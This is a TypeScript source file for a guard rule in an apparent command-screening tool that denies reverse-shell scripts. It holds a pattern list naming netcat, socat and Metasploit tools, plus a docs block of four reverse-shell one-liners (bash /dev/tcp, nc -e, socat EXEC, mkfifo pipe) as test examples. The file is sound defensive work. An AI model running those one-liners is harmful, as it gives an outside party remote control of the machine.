import { defineGuard, type RuleDocs } from '../../../core/rule/define.ts'
import type { Invocation } from '../../../core/script/script.ts'
import { isSocketCode, isSocketFile } from './_socket-code.ts'

export default defineGuard({
  id: 'network/reverse-shell',
  on: 'script',
  verdict: 'deny',
  level: 'critical',
  programs: 'sh bash zsh dash ksh ash python perl ruby php node lua',
  says: 'This hands a shell on this machine to somebody on the network.',
  instead: ['nc -z localhost 5432'],
  calls: `
    nc|ncat|netcat -e|-c|--exec|--sh-exec @/bin/*|/usr/bin/*|sh|bash|zsh|*python*|*perl*|cmd*|powershell*
    nc|ncat|netcat @--exec=*sh|--sh-exec=*sh|--sh-exec=*/sh*
    socat @*EXEC:*|*SYSTEM:*|*SHELL*|*exec:*|*system:*
    gotty|ttyd|upterm|tmate|wetty !-v
    pwncat|msfconsole|msfvenom
  `,
  check: ({ invocations }, { facts }, calls) =>
    calls.some(
      call =>
        call.matched ||
        (isShell(call.name)
          ? isSocketShell(call) || feedsSocket(call.invocation, invocations)
          : isSocketCode(call) || isSocketFile(call, facts)),
    ),
})

const isShell = (name: string): boolean => /^(ba|z|da|k|a)?sh$/.test(name)

const isSocketShell = ({ effects }: Invocation): boolean =>
  effects.some(({ kind, host }) => (kind === 'upload' || kind === 'download') && host !== undefined)

/** A shell whose output goes to nc, which is no program that reads scripts. */
const feedsSocket = (shell: Invocation, all: readonly Invocation[]): boolean =>
  shell.stdin?.from === 'file' &&
  all.some(
    ({ name, stdin }) =>
      /^(nc|ncat|netcat|telnet)$/.test(name) && stdin?.from === 'pipe' && stdin.of === shell,
  )

export const docs: RuleDocs = {
  since: '0.2.0',
  why: 'A shell behind a socket is remote control. There is no other use for it.',
  denies: [
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'nc -e /bin/sh 198.51.100.7 4444',
    'socat TCP:198.51.100.7:4444 EXEC:/bin/bash',
    'mkfifo /tmp/p; sh < /tmp/p | nc 198.51.100.7 4444 > /tmp/p',
  ],
  allows: ['nc -z localhost 5432', 'socat - TCP:localhost:6379', 'echo "nc -e /bin/sh 198.51.100.7 4444"'],
}
